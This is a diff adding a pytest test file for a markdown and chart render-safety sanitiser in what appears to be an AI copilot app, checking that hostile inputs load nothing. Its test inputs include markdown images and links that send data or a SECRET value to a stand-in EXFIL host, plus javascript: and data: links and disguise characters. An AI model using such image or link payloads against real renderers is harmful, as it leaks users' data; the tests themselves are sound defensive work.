@@ -1,0 +1,71 @@
+"""Render safety on the hostile corpus, checked by an independent parser."""
+
+from __future__ import annotations
+
+import pytest
+
+from copilot_core.render_safety import (
+    UnsafeFigure,
+    is_app_link,
+    safe_markdown,
+    safe_text,
+    validate_figure,
+)
+from tests.render_safety.checks import app_links, problems, readable
+from tests.render_safety.corpus import CASES, EXFIL, SECRET, Case
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
+def test_corpus_markdown_loads_nothing_and_stays_readable(case: Case):
+    out = safe_markdown(case.text)
+    assert problems(out) == []
+    shown = readable(out)
+    for word in case.words:
+        assert word in shown, (word, shown[:300])
+    assert sorted(app_links(out)) == sorted(case.app_links)
+
+
+@pytest.mark.parametrize("case", [c for c in CASES if c.charts], ids=lambda c: c.name)
+def test_corpus_charts(case: Case):
+    for chart in case.charts:
+        if case.chart_withheld:
+            with pytest.raises(UnsafeFigure):
+                validate_figure(chart)
+        else:
+            assert validate_figure(chart)["data"] == chart["data"]
+
+
+def test_the_old_regex_escapes_are_closed():
+    """Issue 11's three bypasses of the regex sanitiser: long alt, alt with a newline, nested brackets."""
+    for text in ("![" + "a" * 201 + f"](https://{EXFIL}/x?d=1)", f"![a\nb](https://{EXFIL}/x)",
+                 f"![a[b]c](https://{EXFIL}/x?d=1)"):
+        out = safe_markdown(text)
+        assert problems(out) == [] and "image removed" in readable(out)
+
+
+def test_markdown_structure_survives():
+    text = "# Findings\n\n**Q05** has *low* T1:\n\n- 12.1 us\n- was 40 us\n\n| q | t1 |\n|---|---:|\n| Q05 | 12.1 |"
+    out = safe_markdown(text)
+    from markdown_it import MarkdownIt
+
+    types = [t.type for t in MarkdownIt("commonmark").enable("table").parse(out)]
+    for wanted in ("heading_open", "bullet_list_open", "table_open"):
+        assert wanted in types
+    assert "<strong>Q05</strong>" in MarkdownIt("commonmark").render(out)
+
+
+def test_outside_link_shows_its_url_as_text():
+    out = safe_markdown(f"[report](https://{EXFIL}/r?k={SECRET})")
+    assert app_links(out) == [] and readable(out) == f"report (https://{EXFIL}/r?k={SECRET})"
+
+
+@pytest.mark.parametrize("href,ok", [("/heatmap", True), ("?chip=1", True), ("#top", True), ("//evil.x", False),
+                                     ("/\\evil.x", False), ("https://evil.x", False), ("javascript:x", False),
+                                     ("data:text/html,x", False), ("heatmap", False)])
+def test_app_links(href: str, ok: bool):
+    assert is_app_link(href) is ok
+
+
+def test_safe_text_removes_disguises():
+    assert safe_text("ok\u202etxt.exe\u200b\x07") == "oktxt.exe "
+    assert safe_text("x" * 10, limit=4) == "xxxx…"
